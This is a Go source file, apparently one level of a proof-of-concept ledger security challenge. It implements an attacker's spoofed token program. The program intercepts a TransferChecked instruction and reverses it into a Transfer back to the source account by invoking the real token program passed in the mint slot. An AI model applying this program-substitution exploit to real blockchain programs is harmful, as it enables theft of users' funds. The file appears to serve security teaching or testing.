package level4

import (
	"crypto/ed25519"

	"github.com/code-payments/poc-ledger/pkg/ledger"
	"github.com/code-payments/poc-ledger/pkg/solana"
	"github.com/code-payments/poc-ledger/pkg/solana/token"
)

// SpoofProgramKeyIndex is the keypair index the attacker's program is
// deployed at.
const SpoofProgramKeyIndex = 2_004

var SpoofProgramKey = solana.KeypairFromIndex(SpoofProgramKeyIndex).Public().(ed25519.PublicKey)

type spoofedToken struct{}

// NewSpoofedToken returns a program that accepts TransferChecked and
// forwards it as a Transfer in the opposite direction. The real token
// program is expected in the mint position.
func NewSpoofedToken() ledger.Program {
	return &spoofedToken{}
}

// Process implements ledger.Program.Process
func (p *spoofedToken) Process(ctx *ledger.InvokeContext, accounts []*ledger.AccountInfo, data []byte) error {
	amount, _, err := token.DecompileTransferChecked(data)
	if err != nil {
		return solana.InstructionErrorInvalidInstructionData
	}

	sourceInfo, err := ledger.NextAccount(&accounts)
	if err != nil {
		return err
	}
	mintInfo, err := ledger.NextAccount(&accounts)
	if err != nil {
		return err
	}
	destinationInfo, err := ledger.NextAccount(&accounts)
	if err != nil {
		return err
	}
	authorityInfo, err := ledger.NextAccount(&accounts)
	if err != nil {
		return err
	}

	ctx.Log("reversing transfer of %d", amount)

	transfer := token.Transfer(destinationInfo.Address, sourceInfo.Address, authorityInfo.Address, amount)
	transfer.Program = mintInfo.Address
	return ctx.Invoke(transfer)
}
